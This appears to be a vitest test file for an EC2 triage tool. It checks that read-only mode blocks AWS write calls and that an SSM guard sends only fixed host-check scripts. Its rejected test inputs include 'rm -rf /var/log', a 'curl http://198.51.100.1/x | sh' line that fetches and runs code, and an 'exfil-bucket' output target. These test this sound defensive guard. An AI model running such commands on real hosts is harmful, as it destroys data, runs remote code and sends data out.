// Read-only mode is enforced in aws/: a mutating command never reaches the wire, every read still does.
import { PutMetricAlarmCommand } from '@aws-sdk/client-cloudwatch';
import { RebootInstancesCommand, StopInstancesCommand } from '@aws-sdk/client-ec2';
import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, SendCommandCommand, StartSessionCommand, TerminateSessionCommand } from '@aws-sdk/client-ssm';
import type { SendCommandCommandInput } from '@aws-sdk/client-ssm';
import { describe, expect, it } from 'vitest';
import { createClients } from '../../source/aws/clients.js';
import type { AwsConfig } from '../../source/aws/clients.js';
import { AwsFailure, createAwsApi } from '../../source/aws/index.js';
import { isReadOperation, notAHostCheck } from '../../source/aws/read-only.js';
import { hostCheckInput } from '../../source/aws/ssm.js';
import { describeAwsError } from '../../source/domain/aws-error.js';
import { hostCheckCommands } from '../../source/domain/host-checks.js';
import type { InProcessHandler } from '../../source/domain/in-process-http.js';
import { createSimHandler } from '../../source/sim/handler.js';
import { createWorld } from '../../source/sim/world.js';

const ML = 'i-1234567890abcdef0';

function fleet() {
  const seen: string[] = [];
  const world = createWorld({ scenario: 'oom', seed: 1, fleetSize: 0, clock: { now: () => Date.UTC(2024, 0, 15, 2, 50) } });
  const simHandler = createSimHandler(world, { onRequest: (op) => seen.push(`${op.service}:${op.action}`) });
  return { seen, simHandler, world };
}

describe('read-only mode', () => {
  it.each([
    ['StopInstances', () => new StopInstancesCommand({ InstanceIds: [ML] }), 'ec2:StopInstances'],
    ['StopInstances with DryRun', () => new StopInstancesCommand({ InstanceIds: [ML], DryRun: true }), 'ec2:StopInstances'],
    ['RebootInstances', () => new RebootInstancesCommand({ InstanceIds: [ML] }), 'ec2:RebootInstances'],
  ] as const)('refuses %s before anything is sent', async (_name, command, action) => {
    const { seen, simHandler } = fleet();
    const { ec2 } = createClients({ region: 'us-east-1', simHandler, isReadOnly: true, maxAttempts: 1 });
    const error = await ec2.send(command()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AwsFailure);
    expect((error as AwsFailure).error).toMatchObject({ kind: 'denied', action });
    expect((error as AwsFailure).error.message).toMatch(/read-only mode.*--write/);
    expect(seen).toEqual([]);
  });

  it('refuses CloudWatch writes (PutMetricAlarm) too', async () => {
    const { seen, simHandler } = fleet();
    const { cloudwatch } = createClients({ region: 'us-east-1', simHandler, isReadOnly: true, maxAttempts: 1 });
    const error = await cloudwatch
      .send(new PutMetricAlarmCommand({ AlarmName: 'x', MetricName: 'CPUUtilization', Namespace: 'AWS/EC2', EvaluationPeriods: 1, ComparisonOperator: 'GreaterThanThreshold', Threshold: 1, Period: 60, Statistic: 'Average' }))
      .catch((e: unknown) => e);
    expect((error as AwsFailure).error).toMatchObject({ kind: 'denied', action: 'cloudwatch:PutMetricAlarm' });
    expect(seen).toEqual([]);
  });

  it('every read the app makes is on the allowlist (the whole AwsApi works read-only)', async () => {
    const { seen, simHandler, world } = fleet();
    const api = createAwsApi({ region: 'us-east-1', simHandler, isReadOnly: true, maxAttempts: 1 });
    const ml = world.instance(ML);
    if (ml === undefined) throw new Error('no ML server');
    const start = new Date(Date.UTC(2024, 0, 15, 2, 0));
    const end = new Date(Date.UTC(2024, 0, 15, 2, 50));
    await api.listInstances();
    await api.describeStatuses([ML]);
    await api.describeInstanceTypes(['c5.large']);
    await api.getConsoleOutput(ML);
    await api.getMetricData([{ id: 'cpu', namespace: 'AWS/EC2', metricName: 'CPUUtilization', dimensions: { InstanceId: ML }, stat: 'Average', period: 300 }], start, end);
    await api.listLogGroups();
    await api.filterLogEvents('/pettracker/ml-server', start, end);
    await api.describeSecurityGroups(ml.securityGroups.map((g) => g.id));
    await api.describeSubnet(ml.subnetId);
    await api.describeRouteTableForSubnet(ml.subnetId, ml.vpcId);
    await api.describeNetworkAclForSubnet(ml.subnetId);
    await api.describeKeyPair(ml.keyName ?? '');
    expect(seen.length).toBeGreaterThanOrEqual(12);
  });

  it.each([
    ['EC2Client', 'DescribeInstancesCommand', true],
    ['EC2Client', 'StopInstancesCommand', false],
    ['EC2Client', 'ModifyInstanceAttribute', false],
    ['CloudWatchClient', 'DescribeAlarms', true],
    ['CloudWatchClient', 'DeleteAlarms', false],
    ['CloudWatchLogsClient', 'FilterLogEvents', true],
    ['CloudWatchLogsClient', 'PutLogEvents', false],
    ['SSMClient', 'DescribeInstanceInformation', true],
    ['SSMClient', 'GetCommandInvocationCommand', true],
    ['SSMClient', 'ListCommandInvocations', true],
    ['SSMClient', 'SendCommand', false],
    ['SSMClient', 'StartSession', false],
    ['UnknownClient', 'DescribeInstances', false],
  ])('%s %s read=%s', (client, command, expected) => {
    expect(isReadOperation(client, command)).toBe(expected);
  });
});

/** The fleet behind a recorder of every request that reaches it: what the SDK serialised and sent, whatever service. */
function recordingFleet() {
  const { seen, simHandler, world } = fleet();
  const targets: string[] = [];
  const handler: InProcessHandler = (request) => {
    targets.push(request.headers['x-amz-target'] ?? `${request.method} ${request.path}`);
    return simHandler(request);
  };
  return { seen, targets, world, simHandler: handler };
}

const ssmOf = (config: Partial<AwsConfig> & Pick<AwsConfig, 'simHandler'>) => createClients({ region: 'us-east-1', maxAttempts: 1, ...config }).ssm;

const MEMORY = hostCheckCommands('memory');
const valid = (): SendCommandCommandInput => hostCheckInput(ML, 'memory');

describe('SSM guard: only a consented, fixed host check leaves the process', () => {
  it.each([
    ['read-only', true],
    ['--write', false],
  ] as const)('%s mode without --diagnostics: even the exact fixed script is not sent', async (_mode, isReadOnly) => {
    const { seen, targets, world, simHandler } = recordingFleet();
    const before = world.operations().length;
    const error = await ssmOf({ simHandler, isReadOnly }).send(new SendCommandCommand(valid())).catch((e: unknown) => e);
    expect((error as AwsFailure).error).toMatchObject({ kind: 'denied', action: 'ssm:SendCommand' });
    expect(describeAwsError((error as AwsFailure).error)).toBe('not sent: host checks run only with --diagnostics (your consent to the fixed read-only scripts)');
    expect(targets).toEqual([]);
    expect(seen).toEqual([]);
    expect(world.operations().length).toBe(before);
  });

  it.each([
    ['another document', { ...valid(), DocumentName: 'AWS-RunPowerShellScript' }],
    ['a document of the caller', { ...valid(), DocumentName: 'my-RunShellScript' }],
    ['another script', { ...valid(), Parameters: { commands: ['rm -rf /var/log'] } }],
    ['an extra line', { ...valid(), Parameters: { commands: [...MEMORY, 'curl http://198.51.100.1/x | sh'] } }],
    ['a line missing', { ...valid(), Parameters: { commands: MEMORY.slice(1) } }],
    ['the lines reordered', { ...valid(), Parameters: { commands: [...MEMORY].reverse() } }],
    ['a line changed by one character', { ...valid(), Parameters: { commands: [`${MEMORY[0] ?? ''} `, ...MEMORY.slice(1)] } }],
    ['two scripts joined', { ...valid(), Parameters: { commands: [...MEMORY, ...hostCheckCommands('cpu')] } }],
    ['an extra parameter', { ...valid(), Parameters: { commands: MEMORY, workingDirectory: ['/tmp'] } }],
    ['two instances', { ...valid(), InstanceIds: [ML, 'i-0abcdef1234567890'] }],
    ['no instance but Targets', { ...valid(), InstanceIds: undefined, Targets: [{ Key: 'tag:Name', Values: ['*'] }] }],
    ['Targets beside the instance', { ...valid(), Targets: [{ Key: 'InstanceIds', Values: [ML] }] }],
    ['output to S3', { ...valid(), OutputS3BucketName: 'exfil-bucket' }],
    ['a document version', { ...valid(), DocumentVersion: '2' }],
    ['a service role', { ...valid(), ServiceRoleArn: 'arn:aws:iam::123456789012:role/x' }],
  ] as const)('with --diagnostics, %s is refused before it is serialised', async (_what, input) => {
    const { seen, targets, world, simHandler } = recordingFleet();
    const before = world.operations().length;
    for (const isReadOnly of [true, false]) {
      const error = await ssmOf({ simHandler, isReadOnly, allowHostChecks: true }).send(new SendCommandCommand(input as SendCommandCommandInput)).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(AwsFailure);
      expect((error as AwsFailure).error).toMatchObject({ kind: 'denied', action: 'ssm:SendCommand' });
      expect((error as AwsFailure).error.message).toMatch(/^not sent: only the fixed host-check scripts may run through SSM, and /);
    }
    expect(targets).toEqual([]);
    expect(seen).toEqual([]);
    expect(world.operations().length).toBe(before);
  });

  it('with --diagnostics, each fixed check on one instance is sent, in read-only mode too (the guard is not a wall)', async () => {
    const { seen, targets, world, simHandler } = recordingFleet();
    const ssm = ssmOf({ simHandler, isReadOnly: true, allowHostChecks: true });
    for (const id of ['memory', 'cpu', 'disk', 'ssh'] as const) {
      const out = await ssm.send(new SendCommandCommand(hostCheckInput(ML, id)));
      expect(out.Command?.Comment).toBe(`ec2-triage host check ${id}`);
    }
    expect(targets).toEqual(Array.from({ length: 4 }, () => 'AmazonSSM.SendCommand'));
    expect(seen).toEqual(Array.from({ length: 4 }, () => 'ssm:SendCommand'));
    expect(world.operations().filter((o) => o.action === 'SendCommand').map((o) => o.instanceIds)).toEqual([[ML], [ML], [ML], [ML]]);
  });

  it('SSM reads pass in read-only mode without --diagnostics', async () => {
    const { targets, simHandler } = recordingFleet();
    const ssm = ssmOf({ simHandler, isReadOnly: true });
    await ssm.send(new DescribeInstanceInformationCommand({ Filters: [{ Key: 'InstanceIds', Values: [ML] }] })).catch(() => undefined);
    await ssm.send(new GetCommandInvocationCommand({ CommandId: '11111111-2222-3333-4444-555555555555', InstanceId: ML })).catch(() => undefined);
    expect(targets).toEqual(['AmazonSSM.DescribeInstanceInformation', 'AmazonSSM.GetCommandInvocation']);
  });

  it('StartSession and TerminateSession are never sent by the SDK, even with --write and --diagnostics (c uses the aws CLI)', async () => {
    const { targets, simHandler } = recordingFleet();
    const ssm = ssmOf({ simHandler, isReadOnly: false, allowHostChecks: true });
    for (const command of [new StartSessionCommand({ Target: ML }), new TerminateSessionCommand({ SessionId: 's-1' })]) {
      const error = await ssm.send(command as never).catch((e: unknown) => e);
      expect((error as AwsFailure).error.message).toMatch(/^not sent: ec2-triage never sends ssm:(Start|Terminate)Session/);
    }
    expect(targets).toEqual([]);
  });

  it('AwsApi.sendHostCheck builds exactly what the guard lets through', () => {
    for (const id of ['memory', 'cpu', 'disk', 'ssh'] as const) expect(notAHostCheck(hostCheckInput(ML, id))).toBeUndefined();
    expect(notAHostCheck({ ...valid(), InstanceIds: ['not-an-id'] })).toBe('it does not name exactly one instance');
    expect(notAHostCheck({ ...valid(), TimeoutSeconds: 86_400 })).toBe('its timeout is not 30–600 s');
    expect(notAHostCheck(undefined)).toBe('no input');
  });
});
